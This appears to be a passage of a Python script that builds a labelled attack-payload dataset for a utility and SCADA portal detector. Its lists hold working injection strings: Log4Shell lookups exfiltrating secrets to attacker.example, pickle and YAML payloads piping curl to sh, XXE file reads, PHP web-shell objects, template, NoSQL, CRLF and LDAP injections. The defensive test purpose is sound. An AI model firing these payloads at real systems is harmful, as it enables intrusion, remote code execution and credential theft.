    ("notice-jinja-config-db-uri", "{{ config['SQLALCHEMY_DATABASE_URI'] }}"),
    ("sms-python-format-globals", "Hi {customer.__init__.__globals__[CONFIG]}, your outage is resolved"),
    ("plain-log4shell-ldap", "${jndi:ldap://203.0.113.12:1389/a}"),
    ("wo-note-log4shell-lower-lookup-obfuscation", "${${lower:j}ndi:${lower:l}dap://oob.attacker.example/x}"),
    ("alarm-note-log4shell-default-lookup-obfuscation", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.4:1099/o}"),
    ("wo-note-log4shell-env-exfil", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.oob.attacker.example}"),
    ("outage-note-log4shell-sys-exfil", "${jndi:ldap://${sys:java.version}.oob.attacker.example/a}"),
    ("crew-note-log4shell-inline", "Crew note: replaced fuse at P-4471 ${jndi:ldaps://logs.attacker.example/wo}"),
    ("settings-json-proto-pollution", "{\"__proto__\": {\"isAdmin\": true}}"),
    ("settings-json-constructor-pollution", "{\"constructor\": {\"prototype\": {\"role\": \"dispatcher\"}}}"),
    ("plain-query-proto-pollution", "__proto__[isAdmin]=true"),
    ("query-constructor-pollution", "constructor[prototype][canOperateBreakers]=1"),
    ("meter-csv-hyperlink-formula", "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Meter photo\")"),
    ("meter-csv-dde", "@SUM(1+1)*cmd|' /C notepad'!A1"),
    ("reading-csv-webservice", "+WEBSERVICE(\"http://attacker.example/l?\"&B2)"),
    ("reading-csv-dde-minus", "-2+3+cmd|' /C explorer https://attacker.example'!Z0"),
    ("customer-csv-importxml", "=IMPORTXML(CONCAT(\"http://attacker.example/?v=\",A2:E2),\"//a\")"),
    ("greenbutton-import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE feed [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&x;</title></entry></feed>"),
    ("xml-upload-xxe-oob-param", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY % d SYSTEM \"http://attacker.example/e.dtd\"> %d;]><r/>"),
    ("cim-import-xxe-file", "<?xml version=\"1.0\"?><!DOCTYPE rdf:RDF [<!ENTITY s SYSTEM \"file:///opt/scada/config/rtu.ini\">]><rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" xmlns:cim=\"http://iec.ch/TC57/CIM100#\"><cim:Substation rdf:ID=\"_SUB1\"><cim:IdentifiedObject.name>&s;</cim:IdentifiedObject.name></cim:Substation></rdf:RDF>"),
    ("reading-xml-entity-expansion", "<?xml version=\"1.0\"?><!DOCTYPE MeterReadings [<!ENTITY a \"kWh kWh kWh kWh\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\"><!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">]><MeterReadings><Reading>&g;</Reading></MeterReadings>"),
    ("xml-upload-xinclude", "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"file:///etc/passwd\"/></r>"),
    ("sld-svg-xxe", "<?xml version=\"1.0\"?><!DOCTYPE svg [<!ENTITY h SYSTEM \"file:///etc/hostname\">]><svg xmlns=\"http://www.w3.org/2000/svg\"><text x=\"10\" y=\"20\">&h;</text></svg>"),
    ("cookie-php-object-injection", "O:14:\"MeterExportJob\":2:{s:4:\"path\";s:23:\"/var/www/html/meter.php\";s:4:\"data\";s:28:\"<?php system($_GET['c']); ?>\";}"),
    ("cookie-php-object-file-read", "O:11:\"TariffCache\":2:{s:4:\"file\";s:20:\"/var/www/portal/.env\";s:4:\"mode\";s:4:\"read\";}"),
    ("session-pickle-protocol0", "cos\nsystem\n(S'curl -s http://203.0.113.8/p | sh'\ntR."),
    ("session-pickle+base64", "Y29zCnN5c3RlbQooUydjdXJsIC1zIGh0dHA6Ly8yMDMuMC4xMTMuOC9wIHwgc2gnCnRSLg=="),
    ("inverter-profile-pyyaml-apply", "!!python/object/apply:os.system [\"curl -s http://203.0.113.8/y | sh\"]"),
    ("inverter-profile-snakeyaml-classloader", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/yaml.jar\"]]]]"),
    ("json-dotnet-type-objectdataprovider", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{\"$type\":\"System.Collections.ArrayList, mscorlib\",\"$values\":[\"cmd.exe\",\"/c whoami > C:\\\\inetpub\\\\wwwroot\\\\w.txt\"]},\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("json-jackson-polymorphic-jndi", "[\"com.sun.rowset.JdbcRowSetImpl\",{\"dataSourceName\":\"ldap://203.0.113.12:1389/x\",\"autoCommit\":true}]"),
    ("json-fastjson-autotype", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"rmi://198.51.100.4:1099/e\",\"autoCommit\":true}"),
    ("json-node-serialize-iife", "{\"prefs\":\"_$$ND_FUNC$$_function(){require('child_process').exec('id')}()\"}"),
    ("tariff-formula-js-eval", "0.52*kwh; require('child_process').execSync('id')"),
    ("rate-expression-python-eval", "__import__('os').system('id')"),
    ("rate-expression-python-subprocess", "0.1187*kwh + len(__import__('subprocess').check_output(['cat','/etc/passwd']))"),
    ("notice-jinja-attr-chain+hex", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|attr('popen')('id')|attr('read')() }}"),
    ("plain-jinja-lipsum", "{{ lipsum.__globals__['os'].popen('id').read() }}"),
    ("notice-jinja-attr-filter", "{{ ()|attr('__class__')|attr('__base__')|attr('__subclasses__')() }}"),
    ("notice-jinja-config+urlenc", "%7B%7Bconfig.items%28%29%7D%7D"),
    ("report-freemarker-object-constructor", "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",[\"id\"]).start()}"),
    ("notice-groovy-gstring", "${\"id\".execute().text}"),
    ("wo-note-log4shell+urlenc", "%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.12%2Fa%7D"),
    ("report-xslt-xalan-runtime", "<xsl:stylesheet version=\"1.0\" xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\" xmlns:rt=\"http://xml.apache.org/xalan/java/java.lang.Runtime\"><xsl:template match=\"/\"><xsl:variable name=\"r\" select=\"rt:getRuntime()\"/><xsl:value-of select=\"rt:exec($r,'id')\"/></xsl:template></xsl:stylesheet>"),
    ("notice-ssi-exec", "<!--#exec cmd=\"id\" -->"),
    ("notice-esi-include", "<esi:include src=\"http://attacker.example/esi\"/>"),
    ("plain-spel-runtime", "T(java.lang.Runtime).getRuntime().exec(\"id\")"),
    ("notice-razor-process-start", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
    ("notice-js-template-eval", "`${process.mainModule.require('child_process').execSync('id')}`"),
]

NOSQLI = [
    ("plain-ne-null", "{\"$ne\": null}"),
    ("login-user-gt-empty", "{\"$gt\": \"\"}"),
    ("acct-query-ne", "account[$ne]=0"),
    ("password-query-regex", "password[$regex]=^a"),
    ("meter-filter-regex-all", "{\"meter_id\": {\"$regex\": \".*\"}}"),
    ("where-js-string-breakout", "'; return true; var x='"),
    ("where-js-sleep", "1; sleep(5000)"),
    ("filter-where-sleep", "{\"$where\": \"this.balance > 0 || sleep(3000)\"}"),
    ("filter-or-empty", "{\"$or\": [{}, {\"role\": \"admin\"}]}"),
    ("meter-js-query-or-breakout", "MTR-88121', $or: [ {}, {'a':'a"),
    ("role-in-list", "{\"$in\": [\"admin\", \"dispatcher\", \"operator\"]}"),
    ("login-query-nin", "username[$nin][]=nobody&password[$nin][]=x"),
    ("filter-expr-function-sleep", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(4000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("couch-mango-selector-all", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"limit\": 10000}"),
    ("pipeline-lookup-users", "[{\"$lookup\": {\"from\": \"portal_users\", \"localField\": \"acct\", \"foreignField\": \"acct\", \"as\": \"u\"}}]"),
    ("plain-ne-null+urlenc", "%7B%22%24ne%22%3Anull%7D"),
    ("search-lucene-or", "MTR-88121 OR account_status:* OR _exists_:ssn_last4"),
    ("where-ssjs-process-exit", "this.constructor.constructor('return process')().exit()"),
    ("filter-where-regex-blind", "{\"$where\": \"function(){return this.pin.match(/^4/)}\"}"),
    ("acct-query-exists", "account[$exists]=true&pin[$exists]=true"),
    ("login-json-regex-admin", "{\"username\": {\"$regex\": \"^adm\"}, \"password\": {\"$ne\": \"\"}}"),
]

CRLF = [
    ("redirect-param-set-cookie", "MTR-88121\r\nSet-Cookie: session=attacker-fixed-value"),
    ("redirect-set-cookie+urlenc", "%0d%0aSet-Cookie:%20portal_sid=fixated123"),
    ("next-param-location+urlenc", "/account%0d%0aLocation:%20https://attacker.example/login"),
    ("plain-response-splitting+urlenc", "%0d%0a%0d%0a<script>alert(1)</script>"),
    ("ops-log-forge", "ack\n2024-06-12 14:02:11 INFO operator=admin action=OPEN_BREAKER CB-12 result=SUCCESS"),
    ("alarm-note-audit-forge", "CB-12 reset\r\n[2024-06-12T14:05:00Z] AUDIT user=jdoe role=admin login=success"),
    ("contact-email-bcc", "dana@mail.example\r\nBcc: everyone@attacker.example"),
    ("contact-subject-headers", "Outage on Elm St\nCc: list@attacker.example\nSubject: Account suspended - verify now"),
    ("contact-subject-bcc+urlenc", "Billing question%0ABcc:%20harvest@attacker.example"),
    ("header-set-cookie+unicode", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=1"),
    ("contact-body-smtp-smuggle", "Thanks\r\n.\r\nMAIL FROM:<ops@attacker.example>\r\nRCPT TO:<victim@mail.example>\r\nDATA\r\nSubject: Payment failed\r\n\r\nPay now at https://attacker.example\r\n."),
    ("lang-param-header-injection", "en-US\r\nX-Forwarded-Host: attacker.example"),
    ("wo-param-response-split", "WO-884127\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<h1>Portal maintenance</h1>"),
    ("ops-log-ansi-escape", "SW-114 \u001b]0;owned\u0007\u001b[2Jcleared"),
    ("json-log-field-forge", "note\",\"level\":\"INFO\",\"user\":\"admin\",\"action\":\"approve_payment_plan"),
    ("syslog-line-forge", "CB-12\n<134>Jun 12 14:02:11 scada-hmi01 auth: operator admin logged in"),
    ("alarm-log-forge+urlenc", "%0aALM 14:03:00 SUB-ELM CB-12 CLOSE confirmed by operator"),
    ("filename-content-disposition-split", "bill.pdf\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("redirect-set-cookie+urlenc2", "%250d%250aSet-Cookie:%2520a=b"),
    ("contact-name-reply-to", "Dana O'Neil <dana@mail.example>\nReply-To: billing@attacker.example"),
    ("monitor-url-request-splitting", "monitor.sunbright.example/site/88121 HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\nGET /admin HTTP/1.1"),
    ("cache-key-redis-injection", "meter:88121\r\nCONFIG SET dir /var/www/html\r\n"),
    ("customer-note-log-forge", "Customer note: power restored\n2024-06-12 03:41:02 WARN billing credit issued acct=3300-4471-02 amount=500.00"),
    ("plain-crlf-header", "\r\nX-Injected: 1"),
    ("csv-export-row-injection", "Birch Ln\n3300-0000-01,Mallory,0.00,CURRENT"),
    ("redirect-cr-only-location", "/outages\rLocation: https://attacker.example/"),
    ("cache-key-memcached-injection", "mtr88121 0 0 1\r\nx\r\nset session:admin 0 3600 4\r\ntrue"),
]

LDAP_XPATH = [
    ("crew-lookup-ldap-wildcard-or", "*)(uid=*))(|(uid=*"),
    ("crew-lookup-ldap-group-or", "jortiz)(|(memberOf=cn=scada-admins,ou=groups,dc=util,dc=example)"),
    ("crew-lookup-ldap-blind-password", "*)(userPassword=a*"),
    ("login-ldap-and-true", "admin)(&)"),
    ("directory-ldap-description-or", "*)(|(description=*pass*)"),
    ("crew-lookup-ldap+urlenc", "%2A%29%28uid%3D%2A%29%29%28%7C%28uid%3D%2A"),
    ("crew-lookup-ldap-attr-probe", "jortiz)(telephoneNumber=*"),
    ("device-dir-ldap-objectclass-or", "SUB-ELM)(|(objectClass=*)"),
    ("plain-ldap-close-or", "*))(|(cn=*"),
    ("meter-xpath-tautology", "MTR-88121' or '1'='1"),
    ("meter-xpath-blind-substring", "x' or substring(//user[1]/password,1,1)='a' or 'x'='y"),
    ("meter-xpath-union-nodes", "MTR-1'] | //credentials/* | //meter[@id='x"),
    ("reading-xpath-numeric-or", "1 or 1=1"),
    ("config-xpath-name-probe", "x' or name(/*[1])='config' or 'a'='b"),
    ("operator-xpath-pin-length", "' or string-length(//operator[1]/pin)=4 or '"),
    ("meter-xpath-double-quote-union", "MTR-88121\"] | //* | //*[\""),
    ("meter-xpath2-doc-oob", "x' or doc('http://attacker.example/x.xml') or '1'='1"),
    ("plain-xpath-count", "' or count(/*)=1 or 'a'='b"),
]

LITERALS = {
    "sqli": SQLI,
    "xss": XSS,
    "cmdi": CMDI,
    "traversal": TRAVERSAL,
    "ssrf": SSRF,
    "code": CODE,
    "nosqli": NOSQLI,
    "crlf": CRLF,
    "ldap-xpath": LDAP_XPATH,
}

# --------------------------------------------------------------------------------------
# Small templates over hand-written pools: (count, function)
# --------------------------------------------------------------------------------------

ID_POOL = ["MTR-88121", "MTR-30019", "MTR-90817", "FDR-1204", "FDR-2203", "SW-114", "TIE-7",
           "TOU-D-PRIME", "EV2-A", "WO-884127", "SUB-ELM", "P-20431"]


def t_sqli(rng):
    ident = rng.choice(ID_POOL)
    n = rng.randint(2, 97)
    s = rng.randint(5, 12)
    k = rng.randint(1, 4)
    forms = [
        ("tautology", f"{ident}' OR {n}={n}-- "),
        ("union", f"{ident}' UNION SELECT {', '.join(['NULL'] * k)}, pw_hash FROM operators-- -"),
        ("time-blind", f"{ident}' AND SLEEP({s})-- -"),
        ("stacked-waitfor", f"{ident}'; WAITFOR DELAY '0:0:{s}'--"),
        ("count-blind", f"{ident}' AND (SELECT COUNT(*) FROM portal_users) > {n}-- -"),
    ]
    tech, value = rng.choice(forms)
    ctx = {"MTR": "meter-id", "FDR": "feeder", "SW-": "switch-id", "TIE": "switch-id", "TOU": "tariff-code",
           "EV2": "tariff-code", "WO-": "wo-id", "SUB": "substation", "P-2": "pole-id"}[ident[:3]]
    return f"{ctx}-{tech}", value


XSS_PREFIXES = ["Power out since 6pm", "Tree on the lines behind 88 Cedar Ct", "T1 top-oil 95°C",
                "Meter MTR-88121 read 04512", "Please call before restoring", "DR event 4–9pm",
                "Gas smell at 14 Birch Ln", "PTO still pending"]
XSS_VECTORS = [("img-onerror", "<img src=x onerror=alert(document.cookie)>"),
               ("svg-onload-exfil", "<svg onload=fetch('//attacker.example/'+document.cookie)>"),
               ("script", "<script>alert(document.domain)</script>"),
               ("iframe-javascript", "<iframe src=javascript:alert(1)>"),
               ("link-javascript", "<a href=javascript:alert(1)>details</a>"),
               ("img-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>")]


def t_xss(rng):
    prefix = rng.choice(XSS_PREFIXES)
    tech, vec = rng.choice(XSS_VECTORS)
    sep = rng.choice([" ", " — ", "\n"])
    return f"note-{tech}", f"{prefix}{sep}{vec}"


CMD_HOSTS = ["10.20.4.51", "10.20.4.10", "192.168.10.17", "rtu17.scada.local", "hmi-04"]
CMD_SEPS = [("semicolon", "; "), ("and", " && "), ("pipe", " | "), ("newline", "\n"), ("or", " || "),
            ("subshell", "$("), ("backtick", "`")]
CMD_CMDS = ["id", "cat /etc/passwd", "uname -a", "curl -s http://203.0.113.8/r|sh",
            "wget -qO- http://203.0.113.8/r|sh", "sleep 9"]


def t_cmdi(rng):
    host = rng.choice(CMD_HOSTS)
    tech, sep = rng.choice(CMD_SEPS)
    cmd = rng.choice(CMD_CMDS)
    if sep == "$(":
        value = f"{host}$({cmd})"
    elif sep == "`":
        value = f"{host}`{cmd}`"
    else:
        value = f"{host}{sep}{cmd}"
    return f"rtu-host-{tech}", value


TRAV_PREFIXES = ["", "photos/", "tariffs/", "exports/route17/", "bills/2024/"]
TRAV_UNIX = ["etc/passwd", "etc/shadow", "proc/self/environ", "root/.bash_history",
             "opt/scada/config/rtu_credentials.xml", "etc/nginx/nginx.conf"]
TRAV_WIN = ["windows\\win.ini", "inetpub\\wwwroot\\web.config", "ProgramData\\SCADA\\license.key"]


def t_traversal(rng):
    depth = rng.randint(3, 9)
    prefix = rng.choice(TRAV_PREFIXES)
    style = rng.choice(["unix", "unix", "windows", "encoded"])
    if style == "unix":
        return "file-param-dotdot", prefix + "../" * depth + rng.choice(TRAV_UNIX)
    if style == "windows":
        return "file-param-backslash", prefix.replace("/", "\\") + "..\\" * depth + rng.choice(TRAV_WIN)
    return "file-param-dotdot+urlenc", prefix + "..%2f" * depth + rng.choice(TRAV_UNIX).replace("/", "%2f")


SSRF_TARGETS = [
    ("imds", ["169.254.169.254", "2852039166", "0xa9fea9fe", "[::ffff:a9fe:a9fe]", "169.254.169.254:80"],
     ["/latest/meta-data/", "/latest/meta-data/iam/security-credentials/", "/latest/user-data",
      "/latest/api/token"]),
    ("loopback", ["127.0.0.1", "localhost", "127.0.0.1:8080", "[::1]:8080", "127.0.0.1:9090"],
     ["/admin", "/actuator/heapdump", "/metrics", "/debug/pprof/", "/api/internal/config"]),
    ("internal", ["10.20.4.10", "10.20.4.51", "192.168.10.5", "historian.internal:8086"],
     ["/", "/cgi-bin/status", "/query?q=SHOW+USERS", "/config/export"]),
]


def t_ssrf(rng):
    kind, hosts, paths = rng.choice(SSRF_TARGETS)
    ctx = rng.choice(["monitor-url", "webhook", "import-url"])
    return f"{ctx}-{kind}", f"http://{rng.choice(hosts)}{rng.choice(paths)}"


CODE_PREFIXES = ["DR EVENT tomorrow 4–9pm ", "Crew ETA ", "Your bill is ready ", "Outage restored at 03:40 ",
                 "Hello Dana, ", "Payment plan approved: "]
CODE_PAYLOADS = [("jinja-lipsum", "{{ lipsum.__globals__.os.popen('id').read() }}"),
                 ("log4shell-ldap", "${jndi:ldap://203.0.113.12:1389/o}"),
                 ("jinja-cycler", "{{ cycler.__init__.__globals__.os.popen('uname -a').read() }}"),
                 ("erb-backtick", "<%= `uname -a` %>"),
                 ("log4shell-rmi", "${jndi:rmi://198.51.100.4:1099/w}"),
                 ("spel-runtime", "#{T(java.lang.Runtime).getRuntime().exec('id')}"),
                 ("freemarker-execute", "<#assign e=\"freemarker.template.utility.Execute\"?new()>${e(\"uname -a\")}")]


def t_code(rng):
    prefix = rng.choice(CODE_PREFIXES)
    tech, payload = rng.choice(CODE_PAYLOADS)
    return f"notice-{tech}", prefix + payload


NOSQL_FIELDS = ["password", "pin", "account", "meter_id", "token", "reset_code"]
NOSQL_OPS = [("ne", "$ne", "\"\""), ("ne", "$ne", "null"), ("gt", "$gt", "\"\""), ("regex", "$regex", "\"^.\""),
             ("exists", "$exists", "true"), ("nin", "$nin", "[\"x\"]")]


def t_nosqli(rng):
    field = rng.choice(NOSQL_FIELDS)
    tech, op, val = rng.choice(NOSQL_OPS)
    return f"filter-json-{tech}", f'{{"{field}": {{"{op}": {val}}}}}'


CRLF_RAW_BREAKS = ["\r\n", "\n"]
CRLF_ENC_BREAKS = ["%0d%0a", "%0A"]
CRLF_FIELDS = ["MTR-88121", "WO-884127", "/account", "en-US", "SW-114 ack", "OUT-2024-118832"]


def t_crlf(rng):
    field = rng.choice(CRLF_FIELDS)
    n = rng.randint(10, 99)
    kind, line = rng.choice([
        ("set-cookie", f"Set-Cookie: sid=fixated-{n}"),
        ("location", f"Location: https://attacker.example/{n}"),
        ("xff", f"X-Forwarded-For: 127.0.0.{n}"),
        ("log-forge", f"2024-06-12 14:{n}:00 INFO operator=admin action=CLOSE TIE-7 result=SUCCESS"),
    ])
    enc = rng.choice(["raw", "raw", "urlenc"])
    if enc == "raw":
        brk = rng.choice(CRLF_RAW_BREAKS)
        return f"param-{kind}", f"{field}{brk}{line}"
    brk = rng.choice(CRLF_ENC_BREAKS)
    return f"param-{kind}+urlenc", f"{field}{brk}{line.replace(' ', '%20')}"


LDAP_NAMES = ["jortiz", "rkim", "dpatel", "crew7", "svc_scada"]
LDAP_ATTRS = ["userPassword", "mail", "employeeNumber", "pager", "sshPublicKey"]


def t_ldap(rng):
    name = rng.choice(LDAP_NAMES)
    attr = rng.choice(LDAP_ATTRS)
    c = rng.choice("abcdefghjkmnpqrstuvwxyz0123456789")
    return "crew-lookup-ldap-blind-attr", f"{name})({attr}={c}*"


TEMPLATES = {
    "sqli": (10, t_sqli),
    "xss": (10, t_xss),
    "cmdi": (10, t_cmdi),
    "traversal": (8, t_traversal),
    "ssrf": (7, t_ssrf),
    "code": (9, t_code),
    "nosqli": (4, t_nosqli),
    "crlf": (6, t_crlf),
    "ldap-xpath": (4, t_ldap),
}


def main():
    rng = random.Random(SEED)
    rows = []
    seen = set()
    counts = {}
    literal_total = 0
    for category, literals in LITERALS.items():
        lit = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {category}: {v!r}")
            seen.add(v)
            rows.append((category, cls, v))
            lit += 1
        n_tmpl, fn = TEMPLATES[category]
        made = 0
        tries = 0
        while made < n_tmpl:
            tries += 1
            if tries > 10000:
                raise SystemExit(f"template for {category} cannot fill {n_tmpl}")
            cls, v = fn(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((category, cls, v))
            made += 1
        counts[category] = (lit + made, lit)
        literal_total += lit

    benign_path = Path(__file__).with_name("benign.jsonl")
    if benign_path.exists():
        with open(benign_path, encoding="utf-8") as fh:
            benign_values = [json.loads(line)["value"] for line in fh]
        clash = [v for v in benign_values if v in seen]
        if clash:
            raise SystemExit(f"values present in both files: {clash[:3]!r}")

    out = []
    for i, (category, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, v
        out.append({"id": f"{PREFIX}-{i:05d}", "category": category, "class": cls, "label": "attack", "value": v})

    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as fh:
        for obj in out:
            fh.write(json.dumps(obj, ensure_ascii=False) + "\n")

    plain = sum(1 for o in out if o["class"].startswith("plain-"))
    encoded = sum(1 for o in out if "+" in o["class"])
    for category, (n, lit) in counts.items():
        print(f"{category:11s} {n:4d}  literals {lit:3d}")
    print(f"total {len(out)}  literals {literal_total} ({100 * literal_total / len(out):.0f}%)  "
          f"plain {plain}  encoded {encoded}  -> {path.name}")


if __name__ == "__main__":
    main()
